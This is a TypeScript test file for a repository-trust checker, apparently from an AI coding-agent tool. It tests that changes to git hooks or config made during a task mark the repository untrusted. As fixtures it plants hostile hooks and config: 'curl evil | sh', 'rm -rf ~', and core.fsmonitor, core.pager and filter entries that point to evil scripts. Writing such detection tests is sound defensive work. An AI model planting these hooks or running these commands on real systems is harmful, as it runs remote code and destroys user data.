import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { makeTempDir } from '../../../tests/helpers/tempDir'
import { acquireTaskLock } from '../snapshots/taskLock'
import { openDatabase } from '../store/database'
import { RepoTrustBook, seeRepo } from './trust'

const git = (dir: string, ...args: string[]) =>
  execFileSync('git', args, { cwd: dir, stdio: ['ignore', 'pipe', 'pipe'], encoding: 'utf8' })

// The trust record against real repositories and a real SQLite database: what counts as the user's, and which task
// a change is put down to.
describe('repository trust', () => {
  const dirs: { cleanup(): void }[] = []
  afterEach(() => {
    for (const d of dirs.splice(0)) d.cleanup()
  })
  const folder = () => {
    const d = makeTempDir('ralph-trust-')
    dirs.push(d)
    return d.path
  }
  const book = () => new RepoTrustBook(openDatabase(':memory:'))
  const hook = (dir: string, name: string, body = 'echo hi') => {
    mkdirSync(join(dir, '.git/hooks'), { recursive: true })
    writeFileSync(join(dir, '.git/hooks', name), `#!/bin/sh\n${body}\n`)
    chmodSync(join(dir, '.git/hooks', name), 0o755)
  }

  it('a repository there at first sight is trusted; a change during task N makes it untrusted by task N', async () => {
    const dir = folder()
    git(dir, 'init', '-q')
    const b = book()
    expect(await b.current(dir)).toMatchObject({ trusted: true, task: null, wouldRun: [] })

    await b.beforeTask(dir, 1)
    await b.afterTask(dir, 1)
    expect((await b.current(dir)).trusted).toBe(true)

    await b.beforeTask(dir, 2)
    hook(dir, 'pre-commit', 'curl evil | sh')
    await b.afterTask(dir, 2)
    const now = await b.current(dir)
    expect(now).toMatchObject({
      trusted: false,
      reason: 'changed',
      task: 2,
      message: 'This folder’s git repository’s config or hooks changed during task 2.',
    })
    expect(now.wouldRun).toEqual([
      { what: 'hook pre-commit', command: `${join(dir, '.git/hooks/pre-commit')} — curl evil | sh` },
    ])

    // A later task keeps the first reason; the user's confirmation of what they saw makes it trusted again.
    await b.beforeTask(dir, 3)
    git(dir, 'config', 'core.fsmonitor', '/tmp/x.sh')
    await b.afterTask(dir, 3)
    const later = await b.current(dir)
    expect(later).toMatchObject({ trusted: false, task: 2 })
    await expect(b.confirm(dir, now.fingerprint)).rejects.toThrow(/changed since you were shown/)
    expect(await b.confirm(dir, later.fingerprint)).toMatchObject({ trusted: true })
    expect((await b.current(dir)).trusted).toBe(true)
  })

  it('a repository created during a task is untrusted "created by task N"; one the user made between tasks is theirs', async () => {
    const dir = folder()
    const b = book()
    expect(await b.current(dir)).toMatchObject({ trusted: true })
    // The user's own git init, with no task running.
    git(dir, 'init', '-q')
    expect((await b.current(dir)).trusted).toBe(true)

    const other = folder()
    const c = book()
    await c.current(other)
    await c.beforeTask(other, 4)
    git(other, 'init', '-q')
    await c.afterTask(other, 4)
    expect(await c.current(other)).toMatchObject({
      trusted: false,
      reason: 'created',
      task: 4,
      message: 'This folder’s git repository was created by task 4.',
    })
  })

  it('a task whose process died is compared at the next look; a resumed task keeps its baseline', async () => {
    const dir = folder()
    git(dir, 'init', '-q')
    const b = book()
    await b.beforeTask(dir, 1)
    git(dir, 'config', 'core.pager', 'evil')
    // No afterTask: the process died. While a task holds the lock, the change is not trusted but not yet settled.
    const lock = await acquireTaskLock(dir, 'test')
    expect(await b.current(dir)).toMatchObject({ trusted: false, task: 1 })
    await lock.release()
    expect(await b.current(dir)).toMatchObject({ trusted: false, reason: 'changed', task: 1 })

    const dir2 = folder()
    git(dir2, 'init', '-q')
    const c = book()
    await c.beforeTask(dir2, 7)
    git(dir2, 'config', 'filter.x.clean', 'evil')
    await c.beforeTask(dir2, 7) // resumed after a crash: the same task, its first baseline
    await c.afterTask(dir2, 7)
    expect(await c.current(dir2)).toMatchObject({ trusted: false, task: 7 })
  })

  it('fingerprints config included from another file, hooksPath hooks, and skips a FIFO without hanging', async () => {
    const dir = folder()
    git(dir, 'init', '-q')
    writeFileSync(join(dir, 'extra.gitconfig'), '[user]\n\tname = A\n')
    git(dir, 'config', 'include.path', '../extra.gitconfig')
    git(dir, 'config', 'core.hooksPath', 'hooks')
    mkdirSync(join(dir, 'hooks'))
    const first = await seeRepo(dir)
    writeFileSync(join(dir, 'extra.gitconfig'), '[core]\n\tfsmonitor = ./evil.sh\n')
    const second = await seeRepo(dir)
    expect(second.fingerprint).not.toBe(first.fingerprint)
    expect(second.programs).toContainEqual({ what: 'core.fsmonitor', command: './evil.sh' })
    execFileSync('mkfifo', [join(dir, 'hooks/pre-push')])
    const third = await seeRepo(dir)
    expect(third.fingerprint).not.toBe(second.fingerprint)
    writeFileSync(join(dir, 'hooks/post-commit'), '#!/bin/sh\nrm -rf ~\n')
    chmodSync(join(dir, 'hooks/post-commit'), 0o755)
    expect((await seeRepo(dir)).programs).toContainEqual({
      what: 'hook post-commit',
      command: `${join(dir, 'hooks/post-commit')} — rm -rf ~`,
    })
    // A conditional include that does not hold now still counts: it would at the next checkout.
    git(dir, 'config', 'includeIf.onbranch:later.path', '../later.gitconfig')
    const conditional = await seeRepo(dir)
    writeFileSync(join(dir, 'later.gitconfig'), '[core]\n\tpager = ./evil.sh\n')
    expect((await seeRepo(dir)).fingerprint).not.toBe(conditional.fingerprint)
    expect((await seeRepo(folder())).gitDir).toBeNull()
  })
})
